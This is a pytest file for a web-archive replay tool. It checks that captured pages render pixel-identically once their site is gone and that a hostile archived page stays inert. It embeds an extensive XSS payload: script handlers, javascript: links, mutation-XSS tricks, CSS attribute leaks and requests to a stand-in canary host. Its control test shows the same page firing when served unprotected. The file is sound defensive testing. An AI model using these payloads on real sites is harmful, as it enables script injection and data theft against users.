"""Replay in a real browser: pages look as they were captured though their site is gone, and evil ones do nothing."""

import threading
import time
from collections.abc import Generator, Sequence
from contextlib import contextmanager
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO

import pytest
from PIL import Image
from playwright.sync_api import Browser, Frame, Page, sync_playwright

from footfall.adapters.chromium.chromium_capturing import ChromiumCapturing
from footfall.adapters.gate.gate_proxy import GateProxy
from footfall.ports.capturing import VIEWPORT_PX, WIDTH_PX, Captured, Wanted
from footfall.ports.capturing import Frame as CapturedFrame
from footfall.values.public_addresses import Policy
from tests.archive.captured_pages import exchange
from tests.archive_site import archive_site
from tests.scenarios.browser.publisher import FLAGS, chromium_path
from tests.shells.http.replay_ground import Shelf, replaying

PAGES = ("/frames?n=2", "/mix", "/styled", "/nameless")
MORE_PAGES = ("/article?n=3", "/shadow?n=3", "/sources?n=3", "/modal?n=2", "/hero?n=2", "/observer?n=3", "/sticky?n=2")
SECRET_TEXT = "what only the main origin may read"


def captured_pages(paths: Sequence[str]) -> dict[str, Captured]:
    taken: dict[str, Captured] = {}
    with (
        archive_site() as site,
        GateProxy(Policy(allowed=site.allowed)) as gate,
        ChromiumCapturing(gate, now_us=lambda: time.time_ns() // 1_000) as capturing,
    ):
        for path in paths:
            taken[path] = capturing.capture(Wanted(site.url(path)))
    return taken


@pytest.fixture(scope="module")
def browser() -> Generator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path(), args=list(FLAGS))
        yield browser
        browser.close()


@pytest.mark.parametrize("paths", [PAGES, pytest.param(MORE_PAGES, marks=pytest.mark.soak)])
def test_pages_look_as_they_were_captured_though_their_site_is_gone(paths: Sequence[str], browser: Browser) -> None:
    taken = captured_pages(paths)
    shelf = Shelf()
    for number, page in enumerate(taken.values()):
        shelf.keep(f"01PAGE{number}", page.frames, page.exchanges)
    with replaying(shelf, shown_on="'none'") as replay:
        for number, (path, before) in enumerate(taken.items()):
            # Frames are drawn when they are scrolled to, unless the window is as high as the page.
            height = before.height_px if len(before.frames) > 1 else VIEWPORT_PX
            context = browser.new_context(viewport={"width": WIDTH_PX, "height": height}, reduced_motion="reduce")
            shown = context.new_page()
            asked: list[str] = []
            shown.on("request", lambda request, asked=asked: asked.append(request.url))
            shown.goto(replay.url(f"01PAGE{number}"))
            picture = Image.open(BytesIO(shown.screenshot(full_page=True))).convert("RGB")
            assert picture.size == (WIDTH_PX, before.height_px), path
            assert pixels_of(picture) == before.pixels_sha256, path
            assert [url for url in asked if not url.startswith((replay.origin, "data:"))] == [], path
            context.close()


def pixels_of(picture: Image.Image) -> str:
    """Return what a capture tells of its picture before it was encoded."""
    return sha256(f"{picture.width}x{picture.height}:".encode() + picture.tobytes()).hexdigest()


# CANARY stands for a server that nobody may reach, MAIN for the origin where people are signed in.
ACT = "parent.postMessage('ran','*');top.postMessage('ran','*');new Image().src='CANARY/ran'"
EVIL = f"""<!doctype html><html><head>
<base href="CANARY/base/" target="_top">
<meta http-equiv="refresh" content="0;url=CANARY/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="preconnect" href="CANARY"><link rel="prefetch" href="CANARY/prefetch">
<link rel="preload" as="script" href="CANARY/p">
<link rel="modulepreload" href="CANARY/m"><link rel="manifest" href="CANARY/manifest">
<link rel="stylesheet" href="CANARY/x.css">
<script>{ACT}</script><script src="CANARY/s.js"></script><script type="module">{ACT}</script>
<style>@import "CANARY/i.css"; @import url(CANARY/j.css); body{{background:url(CANARY/bg)}}
input[value^="s"]{{background:u\\72l(CANARY/leak)}} @font-face{{font-family:f;src:url(CANARY/f.woff)}}
p{{font-family:f}}
b{{background:image-set("CANARY/set" 1x)}} i{{background:-webkit-image-set(url(CANARY/set2) 1x)}}</style></head>
<body onload="{ACT}" onpageshow="{ACT}"><p id=shown>shown</p><b>b</b><i>i</i>
<input value="secret" autofocus onfocus="{ACT}">
<img src=x onerror="{ACT}"><img src="CANARY/img" srcset="CANARY/set 1x, CANARY/set2 2x"><picture>
<source srcset="CANARY/w"></picture>
<svg onload="{ACT}"><script>{ACT}</script>
<image href="CANARY/svg"/><use href="CANARY/u.svg#a"/>
<foreignObject><iframe srcdoc="<script>{ACT}</script>"></iframe></foreignObject>
<animate attributeName="href" onbegin="{ACT}"/><set attributeName="onmouseover" to="{ACT}"/></svg>
<a id=js href="javascript:{ACT}">js</a><a id=js2 href="&#1;java&#10;script:{ACT}">js</a>
<a id=away href="CANARY/away" ping="CANARY/ping" target="_top">away</a>
<a id=blank href="CANARY/blank" target="_blank">blank</a>
<form id=form action="CANARY/form" method="post"><button id=send formaction="CANARY/button">send</button></form>
<iframe src="javascript:{ACT}"></iframe><iframe src="data:text/html,<script>{ACT}</script>"></iframe>
<iframe src="https://evil.example/inner"></iframe><iframe src="CANARY/frame"></iframe><iframe src="MAIN/"></iframe>
<object data="CANARY/o"><embed src="CANARY/e"></object>
<video autoplay src="CANARY/v" poster="CANARY/vp" onerror="{ACT}"></video>
<audio autoplay src="CANARY/a"></audio><track src="CANARY/t"><noscript><img src="CANARY/n"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ACT}&gt;">
<svg></p><style><a id="</style><img src=1 onerror={ACT}>"></svg><template><script>{ACT}</script></template>
<p style="background:url(CANARY/inline)">x</p><details open ontoggle="{ACT}"><summary>s</summary></details>
<div><template shadowrootmode="open"><img src=x onerror="{ACT}"><script>{ACT}</script></template></div>
<xmp><script>{ACT}</script></xmp><plaintext><script>{ACT}</script>"""
INNER = f"<script>{ACT}</script><body onload='{ACT}'><img src=CANARY/inner onerror='{ACT}'>inner"


class Watched:
    """A server that remembers what it was asked for."""

    def __init__(self, page: str = "") -> None:
        self.asked: list[str] = []
        watched = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                watched.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Set-Cookie", "session=secret; Path=/")
                self.end_headers()
                self.wfile.write(page.replace("QUERY", self.path.partition("?")[2]).encode())

            do_POST = do_GET  # noqa: N815 - the library's name

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"

    @contextmanager
    def served(self) -> Generator[None]:
        thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        try:
            yield
        finally:
            self._server.shutdown()
            self._server.server_close()


MAIN_PAGE = f"""<!doctype html><title>main</title><p id=secret>{SECRET_TEXT}</p>
<script>window.heard=[]; addEventListener('message', e => heard.push(String(e.data)))</script>
<iframe id=replay src="QUERY" width=900 height=700></iframe>"""


def evil_shelf(canary: Watched, main: Watched) -> Shelf:
    def meant(html: str) -> str:
        return html.replace("CANARY", canary.origin).replace("MAIN", main.origin)

    style = exchange(
        f"{canary.origin}/x.css", meant("@import 'CANARY/k.css'; p{background:url(CANARY/l)}").encode(), "text/css"
    )
    image = exchange(f"{canary.origin}/img", meant(f'<svg onload="{ACT}"><script>{ACT}</script></svg>').encode())
    drawn = exchange(f"{canary.origin}/bg", meant(f"<svg><script>{ACT}</script></svg>").encode(), "image/svg+xml")
    shelf = Shelf()
    frames = [
        CapturedFrame("https://evil.example/", meant(EVIL)),
        CapturedFrame("https://evil.example/inner", meant(INNER)),
    ]
    shelf.keep("01EVIL", frames, [style, image, drawn])
    shelf.keep("01OTHER", [CapturedFrame("https://other.example/", "<p>another's")], [])
    return shelf


def test_an_evil_page_runs_nothing_asks_nobody_and_reads_nothing(browser: Browser) -> None:
    canary, main = Watched(), Watched(MAIN_PAGE)
    with canary.served(), main.served(), replaying(evil_shelf(canary, main), shown_on=main.origin) as replay:
        context = browser.new_context()
        page = context.new_page()
        asked: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        address = replay.url("01EVIL")
        for id in ("js", "js2", "send", "blank", "away"):  # A person clicks on everything.
            page.goto(f"{main.origin}/?{address}")
            frame = replayed_frame(page, address)
            assert frame.locator("#shown").inner_text() == "shown"
            frame.locator(f"#{id}").click(force=True)
            if id in ("blank", "away"):
                frame.wait_for_url("**/to/**")
                assert frame.locator("strong").inner_text() == f"{canary.origin}/{id}"
            assert page.evaluate("heard") == []
        assert page.title() == "main"
        assert page.url.startswith(main.origin)
        assert len(context.pages) == 1
        for url in (f"{address}f/1", f"{address}r/{'0' * 32}", address):  # Opened by itself, too.
            page.goto(url)
            assert page.evaluate("self.origin") == "null"
        allowed = (f"{main.origin}/?", f"{main.origin}/favicon.ico", replay.origin, "data:image/")
        assert [url for url in asked if not url.startswith(allowed)] == []
        context.close()
    assert canary.asked == []
    assert [path for path in main.asked if not path.startswith(("/?", "/favicon.ico"))] == []


def test_the_same_page_acts_where_nothing_keeps_it_from_it(browser: Browser) -> None:
    canary, main = Watched(), Watched(MAIN_PAGE)
    raw = Watched(EVIL.replace("CANARY", canary.origin).replace("MAIN", main.origin))
    with canary.served(), main.served(), raw.served():
        page = browser.new_page()
        page.goto(f"{main.origin}/?{raw.origin}/", wait_until="commit")
        page.wait_for_function("window.heard && window.heard.includes('ran')")
        page.close()
    assert {"/s.js", "/ran"} & set(canary.asked)


def replayed_frame(page: Page, address: str) -> Frame:
    page.wait_for_load_state("load")
    return next(frame for frame in page.frames if frame.url == address)


def test_a_replay_is_shown_only_where_it_may_be(browser: Browser) -> None:
    main, stranger = Watched(MAIN_PAGE), Watched(MAIN_PAGE)
    shelf = Shelf()
    shelf.keep("01PAGE", [CapturedFrame("https://site.example/", "<p id=shown>shown")], [])
    with main.served(), stranger.served(), replaying(shelf, shown_on=main.origin) as replay:
        for origin, is_shown in ((main.origin, True), (stranger.origin, False)):
            page = browser.new_page()
            page.goto(f"{origin}/?{replay.url('01PAGE')}")
            assert (page.frames[1].locator("#shown").count() == 1) == is_shown
            page.close()
